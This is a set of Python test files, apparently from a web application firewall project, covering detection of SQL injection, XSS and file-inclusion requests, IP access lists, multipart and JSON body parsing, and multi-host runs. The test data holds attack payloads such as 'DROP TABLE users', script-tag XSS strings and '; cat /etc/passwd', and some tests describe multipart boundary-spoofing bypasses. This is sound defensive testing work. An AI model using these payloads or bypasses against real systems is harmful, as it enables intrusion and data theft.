        Request(uri="/q?a=1;drop+table+users"), req_id=9001))
    s.sendall(encode_request(
        Request(uri="/q?a=1+union+select+2"), req_id=9002))
    reader, got = FrameReader(RESP_MAGIC), {}
    s.settimeout(120)
    while len(got) < 2:
        for f in reader.feed(s.recv(65536)):
            r = decode_response(f)
            got[r["req_id"]] = r
    s.close()
    assert got[9001]["attack"] and 955000 in got[9001]["rule_ids"]
    assert not got[9002]["attack"]


def test_acl_hot_swap_over_wire(server):
    """wallarm-acl enforcement e2e (VERDICT r03 item #6): push an ACL via
    the dynamic-config lane, then verify deny / greylist+safe_blocking /
    allow decisions change live verdicts with no restart."""
    from ingress_plus_tpu.models.acl import CLIENT_IP_HEADER
    from ingress_plus_tpu.serve.normalize import Request
    from ingress_plus_tpu.serve.protocol import (
        RESP_MAGIC, FrameReader, decode_response, encode_request)

    req = urllib.request.Request(
        "http://127.0.0.1:19901/configuration/acl",
        data=json.dumps({
            "acls": {"edge": {"deny": ["203.0.113.0/24"],
                              "greylist": ["198.51.100.0/24"]}},
            "default": "edge",
        }).encode(), method="POST",
        headers={"Content-Type": "application/json"})
    assert json.loads(urllib.request.urlopen(req, timeout=10).read())[
        "acls"] == ["edge"]

    def verdict(uri, ip, mode=2, rid=8101):
        s = socket.socket(socket.AF_UNIX)
        s.connect(server)
        s.sendall(encode_request(Request(
            uri=uri, headers={"host": "h", CLIENT_IP_HEADER: ip}),
            req_id=rid, mode=mode))
        reader = FrameReader(RESP_MAGIC)
        s.settimeout(120)
        got = None
        while got is None:
            for f in reader.feed(s.recv(65536)):
                got = decode_response(f)
        s.close()
        return got

    # denied source: blocked even on a benign request, class "acl"
    r = verdict("/benign", "203.0.113.50")
    assert r["blocked"] and "acl" in r["classes"], r
    # neutral source, benign: untouched
    r = verdict("/benign", "192.0.2.1", rid=8102)
    assert not r["blocked"], r
    # greylisted source + safe_blocking location mode: attack blocks
    # (the suite's earlier hot-swap test left the 1-rule "drop table"
    # pack live — use its payload)
    r = verdict("/q?a=1;drop+table+users", "198.51.100.9", mode=3, rid=8103)
    assert r["attack"] and r["blocked"], r
    # non-greylisted source + safe_blocking: attack monitored only
    r = verdict("/q?a=1;drop+table+users", "192.0.2.9", mode=3, rid=8104)
    assert r["attack"] and not r["blocked"], r

    # swap to an allowlist: the same attack source is now exempt
    req = urllib.request.Request(
        "http://127.0.0.1:19901/configuration/acl",
        data=json.dumps({"acls": {"edge": {"allow": ["192.0.2.0/24"]}},
                         "default": "edge"}).encode(), method="POST",
        headers={"Content-Type": "application/json"})
    urllib.request.urlopen(req, timeout=10)
    r = verdict("/q?a=1;drop+table+users", "192.0.2.9", rid=8105)
    assert r["attack"] and not r["blocked"], r

    # the dbg CLI drives the same lane (push + inspect)
    from ingress_plus_tpu.control import dbg
    rc = dbg.main(["acl", "--server", "127.0.0.1:19901", "--set",
                   json.dumps({"acls": {"ops": {"deny": ["203.0.113.0/24"]}},
                               "default": "ops"})])
    assert rc == 0
    conf = json.loads(urllib.request.urlopen(
        "http://127.0.0.1:19901/configuration", timeout=10).read())
    assert conf["acls"] == ["ops"]
    assert dbg.main(["acl", "--server", "127.0.0.1:19901"]) == 0

    # clear ACLs so later tests see the original behavior
    req = urllib.request.Request(
        "http://127.0.0.1:19901/configuration/acl",
        data=json.dumps({"acls": {}}).encode(), method="POST",
        headers={"Content-Type": "application/json"})
    urllib.request.urlopen(req, timeout=10)
