"""End-to-end serve path: UDS server subprocess ⇄ C++ loadgen binary.

The kind-cluster e2e analog (SURVEY.md §4): a real serve loop process, the
real native client, real frames over a real socket — asserting verdict
behavior and liveness endpoints, not internals.  Uses a tiny ruleset so
the CPU-backed scan keeps CI fast.
"""

import json
import os
import shutil
import socket
import subprocess
import sys
import time
import urllib.request
from pathlib import Path

import pytest

REPO = Path(__file__).resolve().parent.parent
LOADGEN = REPO / "native" / "sidecar" / "loadgen"

TINY_RULES = """
SecRule REQUEST_URI|ARGS|REQUEST_BODY "@rx (?i)union\\s+select" \
    "id:942100,phase:2,block,t:urlDecodeUni,severity:CRITICAL,tag:'attack-sqli'"
SecRule REQUEST_URI|ARGS|REQUEST_BODY "@rx (?i)<script" \
    "id:941100,phase:2,block,t:urlDecodeUni,severity:CRITICAL,tag:'attack-xss'"
SecRule REQUEST_URI|ARGS|REQUEST_BODY|REQUEST_HEADERS "@rx /etc/passwd" \
    "id:930120,phase:2,block,severity:CRITICAL,tag:'attack-lfi'"
"""


@pytest.fixture(scope="module")
def loadgen_bin():
    if shutil.which("g++") is None:
        pytest.skip("no g++")
    subprocess.run(["make", "-s", "-C", str(REPO / "native" / "sidecar")],
                   check=True)
    assert LOADGEN.exists()
    return LOADGEN


@pytest.fixture(scope="module")
def server(tmp_path_factory, loadgen_bin):
    tmp = tmp_path_factory.mktemp("serve")
    rules_dir = tmp / "rules"
    rules_dir.mkdir()
    (rules_dir / "tiny.conf").write_text(TINY_RULES)
    sock = str(tmp / "ipt.sock")
    env = dict(os.environ)
    env["XLA_FLAGS"] = "--xla_force_host_platform_device_count=1"
    proc = subprocess.Popen(
        [sys.executable, "-m", "ingress_plus_tpu.serve",
         "--socket", sock, "--http-port", "19901",
         "--rules-dir", str(rules_dir), "--platform", "cpu",
         "--max-delay-us", "1000", "--no-warmup"],
        cwd=str(REPO), env=env,
        stderr=subprocess.PIPE, text=True)
    # wait for the socket
    for _ in range(600):
        if Path(sock).exists():
            try:
                s = socket.socket(socket.AF_UNIX)
                s.connect(sock)
                s.close()
                break
            except OSError:
                pass
        if proc.poll() is not None:
            raise RuntimeError("server died: %s" % proc.stderr.read())
        time.sleep(0.1)
    else:
        proc.kill()
        raise RuntimeError("server socket never appeared")
    yield sock
    proc.terminate()
    proc.wait(timeout=10)


def _export_corpus(path, n=200, attack_fraction=0.3):
    from ingress_plus_tpu.utils.export_corpus import export

    return export(str(path), n=n, seed=3, attack_fraction=attack_fraction)


def test_loadgen_roundtrip(server, loadgen_bin, tmp_path):
    corpus = tmp_path / "c.bin"
    n = _export_corpus(corpus, n=200)
    out = subprocess.run(
        [str(loadgen_bin), "--socket", server, "--corpus", str(corpus),
         "--connections", "2", "--inflight", "16", "--requests", "400"],
        capture_output=True, text=True, timeout=300)
    assert out.returncode == 0, out.stderr
    result = json.loads(out.stdout)
    assert result["requests"] == 400
    assert result["fail_open"] == 0
    # the corpus plants sqli/xss/lfi payloads the tiny ruleset must catch
    assert result["attacks"] > 0
    assert result["blocked"] == result["attacks"]  # block mode
    assert result["rps"] > 0


def test_health_and_metrics(server):
    health = json.loads(urllib.request.urlopen(
        "http://127.0.0.1:19901/healthz", timeout=10).read())
    assert health["status"] == "ok"
    metrics = urllib.request.urlopen(
        "http://127.0.0.1:19901/metrics", timeout=10).read().decode()
    assert "ipt_requests_total" in metrics
    assert "ipt_ruleset_info" in metrics


def test_python_client_roundtrip(server):
    """Drive the raw protocol from Python too (sidecar-independent)."""
    from ingress_plus_tpu.serve.protocol import (
        RESP_MAGIC, FrameReader, decode_response, encode_request)
    from ingress_plus_tpu.serve.normalize import Request

    s = socket.socket(socket.AF_UNIX)
    s.connect(server)
    s.sendall(encode_request(
        Request(uri="/q?a=1+union+select+2"), req_id=7001))
    s.sendall(encode_request(Request(uri="/benign"), req_id=7002))
    reader = FrameReader(RESP_MAGIC)
    got = {}
    s.settimeout(120)
    while len(got) < 2:
        frames = reader.feed(s.recv(65536))
        for f in frames:
            r = decode_response(f)
            got[r["req_id"]] = r
    s.close()
    assert got[7001]["attack"] and got[7001]["blocked"]
    assert 942100 in got[7001]["rule_ids"]
    assert not got[7002]["attack"]
