"""Differential tests: native C++ libdetect twin vs the Python reference.

The C++ build (native/confirm/libiptdetect.so) must agree byte-for-byte
with models/libdetect.py on every input — handcrafted attack/benign
payloads, the full labeled corpus's scan streams, and seeded fuzz over a
grammar-shaped alphabet (quotes, comments, keywords, operators).
"""

import ctypes
import random
import shutil
import subprocess
from pathlib import Path

import pytest

REPO = Path(__file__).resolve().parent.parent
SO = REPO / "native" / "confirm" / "libiptdetect.so"


@pytest.fixture(scope="module")
def native():
    if shutil.which("g++") is None:
        pytest.skip("no g++")
    subprocess.run(["make", "-s", "-C", str(REPO / "native" / "confirm")],
                   check=True)
    lib = ctypes.CDLL(str(SO))
    for fn in (lib.ipt_detect_sqli, lib.ipt_detect_xss):
        fn.restype = ctypes.c_int
        fn.argtypes = [ctypes.c_char_p, ctypes.c_size_t]
    return lib


def _pair(native, data: bytes):
    from ingress_plus_tpu.models.libdetect import detect_sqli_py, detect_xss_py

    if b"\x00" in data:  # dispatch guard routes NULs to Python anyway
        return None
    n_sqli = bool(native.ipt_detect_sqli(data, len(data)))
    n_xss = bool(native.ipt_detect_xss(data, len(data)))
    return (n_sqli, n_xss, detect_sqli_py(data), detect_xss_py(data))


def _assert_agree(native, data: bytes):
    got = _pair(native, data)
    if got is None:
        return
    n_sqli, n_xss, p_sqli, p_xss = got
    assert n_sqli == p_sqli, "sqli mismatch on %r" % data[:120]
    assert n_xss == p_xss, "xss mismatch on %r" % data[:120]


HANDCRAFTED = [
    b"",
    b"1' UNION SELECT password FROM users--",
    b"1 union/**/select 2",
    b"' OR 1=1 --",
    b"' OR 'a'='a",
    b"\" or \"\"=\"",
    b"admin'--",
    b"1; DROP TABLE users",
    b"1;select sleep(5)",
    b"sleep(5)",
    b"benchmark(1000000,md5(1))",
    b"0x414141",
    b"1=1",
    b"'a'='a'",
    b"q=o",                      # query param, not SQL
    b"hello world",
    b"it's a nice day",
    b"O'Brien and Sons",
    b"price < 100 and quantity > 5",
    b"`a` --x",                  # backtick string + comment truncation
    b"'abc\\",                   # trailing backslash inside string
    b"/*unterminated",
    b"'--",
    b"'#",
    b"<script>alert(1)</script>",
    b"<ScRiPt src=x>",
    b"<img src=x onerror=alert(1)>",
    b"<a href=\"javascript:alert(1)\">x</a>",
    b"<svg/onload=alert(1)>",
    b"onclick = doIt()",
    b"data:text/html;base64,PHNjcmlwdD4=",
    b"data:xx;yy;base64",        # backtracking ';' choice
    b"&#x3c;script&#x3e;",
    b"<b>bold</b>",              # inactive tag
    b"a < b > c",
    b"london office",            # 'on' inside word: \b must reject
    b"conversation=long",
    b"0X41 and 1.5 or 1.",
    b"@@version",
    b"a||b&&c<>d!=e<=f>=g",
    # truncation semantics (round-5): a line comment truncates anywhere;
    # an inline /**/ truncates only at end of input — mid-expression
    # globstar shapes are benign
    b"src/**/lib or docs/**/api",
    b"don't/**/skip",
    b"' OR 1/*",
    b"' OR 1/**/x",
    b"x' OR 'a'--",
]


def test_handcrafted(native):
    for payload in HANDCRAFTED:
        _assert_agree(native, payload)


def test_corpus_streams(native):
    from ingress_plus_tpu.utils.corpus import generate_corpus

    for lr in generate_corpus(n=400, attack_fraction=0.4, seed=17):
        for stream in lr.request.streams().values():
            _assert_agree(native, stream)


FUZZ_ALPHABET = (
    list(b"'\"`\\-#/*;=<>()|&!~^@,. \t\n0123456789")
    + list(b"abcxyzOSUN_$")
)
FUZZ_WORDS = [
    b"union", b"select", b"from", b"or", b"and", b"sleep", b"like",
    b"<script", b"onload", b"javascript:", b"data:", b"base64", b"&#",
    b"0x41", b"--", b"/*", b"*/", b"''", b'""',
]


def test_fuzz_differential(native):
    rng = random.Random(20260729)
    for _ in range(3000):
        parts = []
        for _ in range(rng.randint(1, 24)):
            if rng.random() < 0.3:
                parts.append(rng.choice(FUZZ_WORDS))
            else:
                parts.append(bytes([rng.choice(FUZZ_ALPHABET)]))
        _assert_agree(native, b"".join(parts))


def test_fuzz_binary(native):
    rng = random.Random(7)
    for _ in range(500):
        data = bytes(rng.randrange(1, 256)  # NUL-free: dispatch guard
                     for _ in range(rng.randint(0, 200)))
        _assert_agree(native, data)


def test_long_input_truncation(native):
    base = b"A" * 5000 + b"' UNION SELECT x FROM y--"
    _assert_agree(native, base)          # attack beyond 4096 → both ignore
    _assert_agree(native, base[:4000] + b"' OR 1=1--")


def test_dispatch_uses_native(native):
    import importlib

    import ingress_plus_tpu.models.libdetect as ld

    importlib.reload(ld)
    assert ld._NATIVE is not None  # lib built above → dispatch goes native
    assert ld.detect_sqli(b"1' UNION SELECT a FROM b--")
    assert not ld.detect_sqli(b"hello world")
    assert ld.detect_xss(b"<script>x</script>")
