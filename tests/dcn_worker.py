"""Worker process for the real multi-host (DCN) test — NOT a pytest file.

Launched twice by tests/test_dcn.py::test_two_process_dcn_detect with a
shared coordinator port.  Each process owns 4 virtual CPU devices and
half of an 8-request batch; the hybrid mesh puts hosts on the data axis
and the TP vote-merge psum on the host-local model axis.  Every process
must end up with the SAME global verdicts, bit-identical to a
single-device engine run over the full batch.

Usage: python tests/dcn_worker.py <coordinator_port> <process_id>
"""

import sys

sys.path.insert(0, __file__.rsplit("/tests/", 1)[0])

from ingress_plus_tpu.utils.platform import force_cpu_devices  # noqa: E402

force_cpu_devices(4)   # before ANY jax backend touch

import numpy as np  # noqa: E402

from ingress_plus_tpu.compiler.ruleset import N_SV, VARIANTS, compile_ruleset  # noqa: E402
from ingress_plus_tpu.compiler.seclang import STREAM_INDEX, parse_seclang  # noqa: E402
from ingress_plus_tpu.models.engine import DetectionEngine  # noqa: E402
from ingress_plus_tpu.ops.scan import pad_rows  # noqa: E402
from ingress_plus_tpu.parallel import ShardedEngine  # noqa: E402
from ingress_plus_tpu.parallel.dcn import (  # noqa: E402
    hybrid_mesh,
    init_distributed,
    local_batch_bounds,
    make_global,
)
from jax.sharding import PartitionSpec as P  # noqa: E402

RULES = """
SecRule REQUEST_URI|ARGS|REQUEST_BODY "@rx (?i)union\\s+select" \
    "id:942100,phase:2,block,t:urlDecodeUni,severity:CRITICAL,tag:'attack-sqli'"
SecRule REQUEST_URI|ARGS|REQUEST_BODY "@rx (?i)<script" \
    "id:941100,phase:2,block,t:urlDecodeUni,severity:CRITICAL,tag:'attack-xss'"
SecRule REQUEST_URI|ARGS|REQUEST_BODY "@rx /etc/passwd" \
    "id:930120,phase:2,block,severity:CRITICAL,tag:'attack-lfi'"
"""

PAYLOADS = [
    b"GET /search?q=1' UNION SELECT password FROM users--",
    b"<script>alert(1)</script>",
    b"; cat /etc/passwd",
    b"plain benign text about shoes and prices",
]


def rows_for(requests):
    """2 rows per request, request-major (the batcher's layout)."""
    rows, row_req = [], []
    for qi, q in enumerate(requests):
        for r in range(2):
            rows.append(PAYLOADS[(q + r) % len(PAYLOADS)])
            row_req.append(qi)
    tokens, lengths = pad_rows(rows, max_len=64, round_to=64)
    sv = np.zeros((len(rows), N_SV), np.int8)
    a = STREAM_INDEX["args"] * len(VARIANTS)
    sv[:, a:a + len(VARIANTS)] = 1
    return tokens.astype(np.int32), lengths, \
        np.asarray(row_req, np.int32), sv


def main() -> None:
    port, pid = int(sys.argv[1]), int(sys.argv[2])
    assert init_distributed("localhost:%d" % port, num_processes=2,
                            process_id=pid), "distributed init failed"
    import jax

    assert jax.process_count() == 2 and len(jax.devices()) == 8

    cr = compile_ruleset(parse_seclang(RULES))
    mesh = hybrid_mesh()                      # (data=2 hosts, model=4)
    assert mesh.shape == {"data": 2, "model": 4}, dict(mesh.shape)
    n_req = 8
    lo, hi = local_batch_bounds(mesh, n_req)
    assert (lo, hi) == ((0, 4) if pid == 0 else (4, 8)), (pid, lo, hi)

    # each host prepares ONLY its own requests (nginx-replica traffic
    # locality); shard-local request ids within the slice
    tokens, lengths, row_req, row_sv = rows_for(range(lo, hi))
    eng = ShardedEngine(cr, mesh)
    g = lambda spec, arr, shape: make_global(mesh, spec, arr, shape)
    R = tokens.shape[0]                       # local rows (8) → global 16
    rh, ch, sc = eng.detect(
        g(P("data", None), tokens, (2 * R, tokens.shape[1])),
        g(P("data"), lengths, (2 * R,)),
        g(P("data"), row_req, (2 * R,)),
        g(P("data", None), row_sv, (2 * R, row_sv.shape[1])),
        g(P("data"), np.zeros((hi - lo,), np.int32), (n_req,)),
        num_requests=n_req)

    # reference: single-device engine over the FULL batch (deterministic
    # on every host — no communication involved in checking)
    ftok, flen, freq, fsv = rows_for(range(n_req))
    single = DetectionEngine(cr)
    rh1, ch1, sc1 = single.detect(ftok, flen, freq, fsv, n_req)
    assert rh.shape == rh1.shape and (rh == rh1).all(), "rule hits differ"
    assert (ch == ch1).all() and (sc == sc1).all()
    assert rh1.any(), "reference found no hits — vacuous test"
    print("P%d DCN DETECT OK (%d global hits)" % (pid, int(rh.sum())),
          flush=True)


if __name__ == "__main__":
    main()
