"""F1 gate (BASELINE.md: zero detection-F1 regression) — the verdict-level
differential eval of SURVEY.md §4 item (4), small-n so CPU CI stays fast.
The floor is strict: the corpus's planted payloads are all CRS-covered
classes, so missing any is a real regression, and benign-traffic FPs are
the reference-parity killer."""

from ingress_plus_tpu.utils.evalf1 import evaluate


def test_f1_on_bundled_ruleset():
    rep = evaluate(n=384, batch=128, seed=7)
    assert rep.n == 384
    assert rep.recall >= 0.99, rep.false_negatives
    assert rep.precision >= 0.99, rep.false_positives
    assert rep.f1 >= 0.99
    # every attack class planted by the corpus must be detected
    assert all(r >= 0.95 for r in rep.per_class_recall.values()), \
        rep.per_class_recall


def test_f1_monitoring_never_blocks():
    rep = evaluate(n=128, batch=128, seed=11, mode="monitoring", warm=False)
    assert rep.req_s > 0
    assert rep.blocked == 0  # monitoring mode must never block (corpus-wide)
    assert rep.mode == "monitoring"
