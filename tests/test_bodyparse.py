"""Multipart/form-data + JSON body → per-variable collections
(round-5, VERDICT r04 item #2).

ModSecurity's multipart and JSON body processors populate ARGS_POST /
FILES / FILES_NAMES so 942-family per-variable rules, `&ARGS` counts,
and exclusion selectors resolve on non-urlencoded POSTs (SURVEY.md §2.2
ngx_http_wallarm_module unpack duties; libmodsecurity row).  Before
round 5 the confirm stage abstained on multipart ARGS and mapped JSON
to the raw body blob — these tests pin the exact-collection semantics
of serve/bodyparse.py end to end through the pipeline.
"""

from __future__ import annotations

from ingress_plus_tpu.compiler.ruleset import compile_ruleset
from ingress_plus_tpu.compiler.seclang import parse_seclang
from ingress_plus_tpu.models.pipeline import DetectionPipeline
from ingress_plus_tpu.serve.bodyparse import (
    MAX_JSON_ARGS,
    flatten_json,
    multipart_boundary,
    parse_multipart,
)
from ingress_plus_tpu.serve.normalize import Request


def _pipeline(conf: str) -> DetectionPipeline:
    return DetectionPipeline(compile_ruleset(parse_seclang(conf)),
                             mode="block", anomaly_threshold=3)


def _mp(fields, boundary=b"Xy12", files=()):
    parts = []
    for name, value in fields:
        parts.append(b"--" + boundary + b"\r\n"
                     b'Content-Disposition: form-data; name="' + name
                     + b'"\r\n\r\n' + value + b"\r\n")
    for name, filename, content in files:
        parts.append(b"--" + boundary + b"\r\n"
                     b'Content-Disposition: form-data; name="' + name
                     + b'"; filename="' + filename + b'"\r\n'
                     b"Content-Type: application/octet-stream\r\n\r\n"
                     + content + b"\r\n")
    return b"".join(parts) + b"--" + boundary + b"--\r\n"


def _mp_request(fields, boundary=b"Xy12", files=()):
    body = _mp(fields, boundary, files)
    return Request(
        method="POST", uri="/upload",
        headers={"Content-Type":
                 "multipart/form-data; boundary=" + boundary.decode()},
        body=body)


# ---------------------------------------------------------------- parser


def test_multipart_fields_and_files():
    form = parse_multipart(
        _mp([(b"comment", b"hello world"), (b"page", b"3")],
            files=[(b"photo", b"cat.jpg", b"\xff\xd8binary")]),
        b"multipart/form-data; boundary=Xy12")
    assert form is not None
    assert form.fields == [(b"comment", b"hello world"), (b"page", b"3")]
    assert form.files == [(b"photo", b"cat.jpg")]


def test_multipart_quoted_boundary_and_lf_only():
    assert multipart_boundary(
        b'multipart/form-data; boundary="a b?c"') == b"a b?c"
    body = (b"--B\nContent-Disposition: form-data; name=f\n\nv\n--B--\n")
    form = parse_multipart(body, b"multipart/form-data; boundary=B")
    assert form is not None and form.fields == [(b"f", b"v")]


def test_multipart_preserves_crlf_inside_value():
    body = _mp([(b"t", b"line1\r\nline2")])
    form = parse_multipart(body, b"multipart/form-data; boundary=Xy12")
    assert form.fields == [(b"t", b"line1\r\nline2")]


def test_lf_framed_part_value_not_swallowed():
    """The header/value boundary is the EARLIEST blank line, CRLF or LF
    framed (review finding: preferring \\r\\n\\r\\n let an LF-framed part
    hide its payload before a later CRLFCRLF — the value vanished into
    the discarded header block while the successful parse suppressed
    REQUEST_BODY, bypassing every per-variable confirm)."""
    body = (b'--B\nContent-Disposition: form-data; name="q"\n\n'
            b"1 UNION SELECT pass\r\n\r\ntail\n--B--\n")
    form = parse_multipart(body, b"multipart/form-data; boundary=B")
    assert form.fields == [(b"q", b"1 UNION SELECT pass\r\n\r\ntail")]
    p = _pipeline(SQLI_ARGS)
    req = Request(method="POST", uri="/f",
                  headers={"Content-Type":
                           "multipart/form-data; boundary=B"},
                  body=body)
    assert p.detect([req])[0].attack


def test_files_never_falls_back_to_raw_blob():
    """On a malformed multipart the FILES collection abstains WITHOUT
    the raw-blob superset (review finding: a bare extension regex on a
    truncated body blocked benign text mentioning 'setup.sh'); the
    context-anchored 922131 raw-body twin owns that case."""
    p = _pipeline('SecRule FILES "@rx (?i)\\.(?:sh|exe)\\b" '
                  '"id:920994,phase:2,block,severity:CRITICAL,'
                  'tag:\'attack-protocol\'"')
    truncated = Request(
        method="POST", uri="/f",
        headers={"Content-Type": "multipart/form-data; boundary=B"},
        body=b"--B\r\nContent-Disposition: form-data; "
             b'name="note"\r\n\r\nplease run setup.sh after install\r\n')
    assert not p.detect([truncated])[0].attack


def test_multipart_malformed_abstains():
    ct = b"multipart/form-data; boundary=Xy12"
    # no closing delimiter (truncated body)
    assert parse_multipart(
        b'--Xy12\r\nContent-Disposition: form-data; name="a"\r\n\r\nv\r\n',
        ct) is None
    # part with no Content-Disposition name
    assert parse_multipart(
        b"--Xy12\r\nContent-Type: text/plain\r\n\r\nv\r\n--Xy12--\r\n",
        ct) is None
    # boundary absent from the Content-Type
    assert parse_multipart(_mp([(b"a", b"v")]),
                           b"multipart/form-data") is None
    # content after the closing delimiter
    assert parse_multipart(
        _mp([(b"a", b"v")]) + b"--Xy12\r\ntrailing", ct) is None


def test_multipart_empty_filename_is_a_file_part():
    """An empty file input submits filename="": still a FILES entry
    (with an empty value), never an ARGS_POST field."""
    form = parse_multipart(
        _mp([], files=[(b"up", b"", b"")]),
        b"multipart/form-data; boundary=Xy12")
    assert form.fields == [] and form.files == [(b"up", b"")]


def test_flatten_json_paths():
    ent = flatten_json(b'{"a": {"b": 1}, "tags": ["x", "y"], '
                       b'"ok": true, "none": null}')
    assert ent == [(b"json.a.b", b"1"), (b"json.tags", b"x"),
                   (b"json.tags", b"y"), (b"json.ok", b"true"),
                   (b"json.none", b"")]
    assert flatten_json(b"not json {") is None
    # scalar root document
    assert flatten_json(b'"hello"') == [(b"json", b"hello")]


def test_flatten_json_bounds_abstain():
    deep = b'{"k":' * 40 + b"1" + b"}" * 40
    assert flatten_json(deep) is None
    wide = (b"{" + b",".join(b'"k%d": 1' % i
                             for i in range(MAX_JSON_ARGS + 1)) + b"}")
    assert flatten_json(wide) is None


# ------------------------------------------------- pipeline integration


SQLI_ARGS = ('SecRule ARGS "@rx (?i)union\\s+select" '
             '"id:942999,phase:2,block,t:urlDecodeUni,'
             'severity:CRITICAL,tag:\'attack-sqli\'"')


def test_942_fires_on_multipart_field():
    """VERDICT item-2 'done' criterion: per-variable confirm fires on a
    payload inside a multipart field."""
    p = _pipeline(SQLI_ARGS)
    v = p.detect([_mp_request([(b"q", b"1 UNION SELECT password"),
                               (b"page", b"2")])])[0]
    assert v.attack and v.rule_ids == [942999]
    assert not p.detect([_mp_request([(b"q", b"just a comment")])])[0].attack


def test_942_fires_on_json_string_field():
    """...and inside a JSON string field, via the json.path collection."""
    p = _pipeline(SQLI_ARGS)
    atk = Request(method="POST", uri="/api",
                  headers={"Content-Type": "application/json"},
                  body=b'{"filter": {"q": "1 UNION SELECT pass"}}')
    v = p.detect([atk])[0]
    assert v.attack and v.rule_ids == [942999]
    ok = Request(method="POST", uri="/api",
                 headers={"Content-Type": "application/json"},
                 body=b'{"filter": {"q": "union of two sets"}}')
    assert not p.detect([ok])[0].attack


def test_args_count_resolves_on_multipart():
    """`&ARGS` no longer abstains on multipart POSTs (VERDICT item 2)."""
    p = _pipeline('SecRule &ARGS "@gt 2" '
                  '"id:920998,phase:2,block,severity:CRITICAL,'
                  'tag:\'attack-protocol\'"')
    assert p.detect([_mp_request([(b"a", b"1"), (b"b", b"2"),
                                  (b"c", b"3")])])[0].attack
    assert not p.detect([_mp_request([(b"a", b"1")])])[0].attack


def test_exclusion_reaches_multipart_and_json_fields():
    """!ARGS:x / !ARGS:json.path exclusions narrow the parsed body
    collections exactly like query args."""
    conf = (SQLI_ARGS
            + '\nSecRuleUpdateTargetById 942999 "!ARGS:trusted"'
            + '\nSecRuleUpdateTargetById 942999 "!ARGS:json.trusted"')
    p = _pipeline(conf)
    # excluded multipart field → no fire; other field → fire
    assert not p.detect(
        [_mp_request([(b"trusted", b"1 UNION SELECT x")])])[0].attack
    assert p.detect(
        [_mp_request([(b"other", b"1 UNION SELECT x")])])[0].attack
    # excluded JSON path → no fire; sibling path → fire
    def js(body):
        return Request(method="POST", uri="/api",
                       headers={"Content-Type": "application/json"},
                       body=body)
    assert not p.detect(
        [js(b'{"trusted": "1 UNION SELECT x"}')])[0].attack
    assert p.detect([js(b'{"q": "1 UNION SELECT x"}')])[0].attack


def test_files_collections_from_multipart():
    """FILES matches the client filename, FILES_NAMES the field name;
    field values never leak into FILES."""
    p = _pipeline('SecRule FILES "@rx (?i)\\.phps?$" '
                  '"id:920997,phase:2,block,severity:CRITICAL,'
                  'tag:\'attack-protocol\'"')
    atk = _mp_request([(b"note", b"see attached")],
                      files=[(b"upload", b"shell.php", b"<?php ?>")])
    assert p.detect([atk])[0].attack
    ok = _mp_request([(b"note", b"innocent.php mention")],
                     files=[(b"upload", b"cat.jpg", b"\xff\xd8")])
    assert not p.detect([ok])[0].attack
    p2 = _pipeline('SecRule FILES_NAMES "@streq backdoor" '
                   '"id:920996,phase:2,block,severity:CRITICAL,'
                   'tag:\'attack-protocol\'"')
    assert p2.detect([_mp_request(
        [], files=[(b"backdoor", b"x.txt", b"hi")])])[0].attack


def test_disposition_param_spoofing_rejected():
    """A 'name=' token hidden inside ANOTHER parameter's quoted value
    must not override the real field name (review finding: a findall
    parser let xp="name=trusted" spoof the part name past !ARGS:x
    exclusions — ModSecurity parses parameters sequentially)."""
    body = (b"--B\r\n"
            b'Content-Disposition: form-data; name="x"; '
            b'xp="name=trusted"\r\n\r\npayload\r\n--B--\r\n')
    form = parse_multipart(body, b"multipart/form-data; boundary=B")
    assert form.fields == [(b"x", b"payload")]
    # duplicated name=: first occurrence wins, no override
    body2 = (b"--B\r\n"
             b'Content-Disposition: form-data; name="x"; '
             b'name="trusted"\r\n\r\npayload\r\n--B--\r\n')
    form2 = parse_multipart(body2, b"multipart/form-data; boundary=B")
    assert form2.fields == [(b"x", b"payload")]


def test_boundary_spoofing_rejected():
    """A 'boundary=' inside another Content-Type parameter's quotes must
    not become the delimiter (review finding: the fake framing parsed
    cleanly, suppressing REQUEST_BODY while the backend parsed the real
    boundary's parts)."""
    assert multipart_boundary(
        b'multipart/form-data; x="boundary=AAA"; boundary=real') == b"real"
    body = (b"--AAA\r\n"
            b'Content-Disposition: form-data; name="trusted"\r\n\r\n'
            b"--real\r\n"
            b'Content-Disposition: form-data; name="q"\r\n\r\n'
            b"1 UNION SELECT x\r\n--real--\r\n"
            b"\r\n--AAA--\r\n")
    form = parse_multipart(
        body, b'multipart/form-data; x="boundary=AAA"; boundary=real')
    # parsed with the REAL boundary: the attack part is a variable
    assert form is not None and (b"q", b"1 UNION SELECT x") in form.fields


def test_mid_line_delimiter_does_not_fabricate_parts():
    """RFC 2046: a delimiter counts only at line start — 'junk--B' must
    not open a part an RFC parser (e.g. Go mime/multipart) would never
    see (review finding: fabricated pairs broke the never-fabricate
    contract and wrongly suppressed REQUEST_BODY)."""
    body = (b'junk--B\r\nContent-Disposition: form-data; name="x"'
            b"\r\n\r\nv\r\n--B--\r\n")
    form = parse_multipart(body, b"multipart/form-data; boundary=B")
    # everything before the first LINE-START delimiter is preamble, so
    # an RFC parser sees zero parts here — and so do we (no fabricated
    # (x, v) pair)
    assert form is not None and form.fields == [] and form.files == []
    # ...but a preamble on its OWN line before the first delimiter is
    # legal and ignored
    ok = (b"preamble line\r\n--B\r\n"
          b'Content-Disposition: form-data; name="x"\r\n\r\nv\r\n--B--\r\n')
    form = parse_multipart(ok, b"multipart/form-data; boundary=B")
    assert form is not None and form.fields == [(b"x", b"v")]


def test_parsed_multipart_suppresses_request_body():
    """ModSecurity: the multipart processor REPLACES the raw body, so
    REQUEST_BODY rules must not confirm on a parsed multipart POST —
    without this every body fires 942170-shaped rules on its own
    '--boundary--' epilogue and every upload with a part Content-Type
    fires 921120 response-splitting (observed blocking a benign
    upload).  A MALFORMED multipart keeps the raw-blob superset."""
    p = _pipeline('SecRule REQUEST_BODY "@rx (?i)[\\r\\n]\\W*?'
                  'content-type:" '
                  '"id:921999,phase:2,block,severity:CRITICAL,'
                  'tag:\'attack-protocol\'"')
    ok = _mp_request([(b"note", b"holiday pics")],
                     files=[(b"photo", b"cat.jpg", b"\xff\xd8")])
    assert not p.detect([ok])[0].attack
    # same bytes, framing broken (no closing delimiter): blob fallback
    raw = ok.body.rsplit(b"--Xy12--", 1)[0]
    bad = Request(method="POST", uri="/upload",
                  headers=dict(ok.headers), body=raw)
    assert p.detect([bad])[0].attack


def test_executable_upload_rules_cover_both_framings():
    """922130 (FILES exact) fires on a parsed upload; 922131 (raw-body
    twin) fires when framing desync makes the parser abstain, including
    the BARE filename= form (review finding: the quoted-only tail let
    an unquoted token slip)."""
